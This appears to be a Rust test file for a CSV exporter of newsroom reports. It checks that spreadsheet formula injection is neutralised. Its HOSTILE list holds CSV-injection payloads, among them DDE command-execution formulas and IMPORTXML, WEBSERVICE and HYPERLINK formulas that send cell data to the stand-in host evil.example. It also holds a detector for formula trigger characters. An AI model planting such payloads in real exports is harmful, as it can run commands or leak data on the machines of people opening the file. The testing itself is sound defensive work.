//! The file as a spreadsheet reads it: every cell comes back as it was, in its place, and none of them is a formula.

use proptest::prelude::*;

use super::*;
use crate::domain::report::Stato;

/// What people might put into an answer to harm whoever opens the export.
const HOSTILE: [&str; 52] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"clicca\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\";CONCATENATE(A2:E2));\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "+1+1",
    "+393331234567",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- un elenco",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@utente",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\n=1+1",
    " =1+1",
    "   +1",
    "\u{A0}=1+1",
    "\u{3000}@x",
    "\u{200B}=1+1",
    "\u{FEFF}=1+1",
    " \u{200B} \t=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " ＝1+1",
    "\"",
    "\"\"",
    "\"=1+1\"",
    "a\";=1+1;\"b",
    "a\",=1+1,\"b",
    "a\"\r\n=1+1;\"b",
    "\";\"",
    ";",
    ",",
    ";=1+1",
    ",=1+1",
    "a;b,c\td",
    "prima\nseconda",
    "prima\r\nseconda\r\n",
    "'=1+1",
    "",
    " ",
    "<script>alert(1)</script>",
    "\u{202E}fdp.exe",
    "D'Àngelo, «però»",
    "👩\u{200D}🚒;🚒",
    "Țăranu €",
    "x\0y",
];

/// A reader as spreadsheets have them: quotes protect, anything in `separators` separates.
fn read(text: &str, separators: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let (mut quoted, mut characters) = (false, text.chars().peekable());
    while let Some(character) = characters.next() {
        let row = rows.last_mut().unwrap();
        let cell = row.last_mut().unwrap();
        match character {
            '"' if quoted && characters.peek() == Some(&'"') => {
                characters.next();
                cell.push('"');
            }
            '"' if quoted => quoted = false,
            '"' if cell.is_empty() => quoted = true,
            other if !quoted && separators.contains(other) => row.push(String::new()),
            '\r' if !quoted && characters.peek() == Some(&'\n') => {
                characters.next();
                rows.push(vec![String::new()]);
            }
            other => cell.push(other),
        }
    }
    assert_eq!(
        rows.pop(),
        Some(vec![String::new()]),
        "the last line is ended"
    );
    rows
}

fn written(cells: &[impl AsRef<str>]) -> String {
    let mut line = Vec::new();
    put_line(&mut line, cells);
    String::from_utf8(line).unwrap()
}

/// Whether a spreadsheet would run it, told in another way than the code under test does.
fn runs(cell: &str) -> bool {
    let visible = cell.trim_start_matches(|character: char| {
        (character.is_whitespace() && !"\t\r".contains(character))
            || "\u{200B}\u{FEFF}\u{2060}\u{AD}".contains(character)
    });
    visible.starts_with(['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'])
}

#[test]
fn hostile_cells_come_back_as_text_whatever_separates_cells() {
    let line = written(&HOSTILE);
    for separators in [";", ";,", ";,\t", ";,\t|"] {
        let rows = read(&line, separators);
        assert_eq!(rows.len(), 1, "{separators:?}");
        assert_eq!(rows[0].len(), HOSTILE.len(), "{separators:?}");
        for (cell, meant) in rows[0].iter().zip(HOSTILE) {
            assert!(!runs(cell), "{cell:?}");
            let defused = runs(meant);
            let text = cell.strip_prefix('\'').filter(|_| defused).unwrap_or(cell);
            assert_eq!(text, meant, "nothing is lost or changed");
            assert_eq!(cell.len(), meant.len() + usize::from(defused));
        }
    }
    assert!(HOSTILE.iter().filter(|cell| runs(cell)).count() >= 25);
}

#[test]
fn a_row_has_its_columns_in_order_and_the_time_of_the_newsroom() {
    let received: Timestamp = "2026-07-01T22:05:00Z".parse().unwrap();
    let row = SealedRow {
        seq: 1,
        id: "0000".to_owned(),
        stato: Stato::InLavorazione,
        data_creazione: received.as_millisecond(),
        epoch: 1,
        contenuto: Vec::new(),
    };
    let report = Report {
        eta: 30,
        nome: "Anna".to_owned(),
        cognome: "De \"Luca\"".to_owned(),
        telefono: "3123456789".to_owned(),
        email: "anna@esempio.it".to_owned(),
        indirizzo: "Via Roma 1; Milano".to_owned(),
        segnalazione: "Racconto\n\nINFORMAZIONI AGGIUNTIVE\nAltro".to_owned(),
    };
    let mut line = Vec::new();
    let rome = crate::clock::zone("Europe/Rome").unwrap();
    put_report(&mut line, &row, &report, &rome).unwrap();
    assert_eq!(
        String::from_utf8(line).unwrap(),
        "\"0000\";\"Anna De \"\"Luca\"\"\";\"3123456789\";\"anna@esempio.it\";\"Via Roma 1; Milano\";\
         \"02/07/2026 00:05\";\"In lavorazione\";\"Racconto\n\nINFORMAZIONI AGGIUNTIVE\nAltro\"\r\n"
    );
}

#[test]
fn a_client_that_takes_nothing_is_waited_for_only_so_long() {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap();
    let _inside = runtime.enter();
    let (maker, rows) = chunks(8, ());
    let mut outlet = Outlet {
        deadline: Instant::now() + Duration::from_millis(20),
        runtime: runtime.handle().clone(),
        maker,
    };
    for _ in 0..8 {
        assert!(outlet.send(Some(Bytes::new())).is_ok(), "there is room");
    }
    assert!(
        outlet.send(Some(Bytes::new())).is_err(),
        "the deadline came"
    );
    drop(rows);
    assert!(outlet.send(Some(Bytes::new())).is_err());
}

proptest! {
    #[test]
    fn any_row_comes_back(cells in proptest::collection::vec(any::<String>(), 1..9)) {
        for separators in [";", ";,\t"] {
            let rows = read(&written(&cells), separators);
            prop_assert_eq!(rows.len(), 1);
            prop_assert_eq!(rows[0].len(), cells.len());
            for (cell, meant) in rows[0].iter().zip(&cells) {
                prop_assert!(!runs(cell));
                let text = cell.strip_prefix('\'').filter(|_| cell != meant);
                prop_assert_eq!(text.unwrap_or(cell), meant);
            }
        }
    }
}
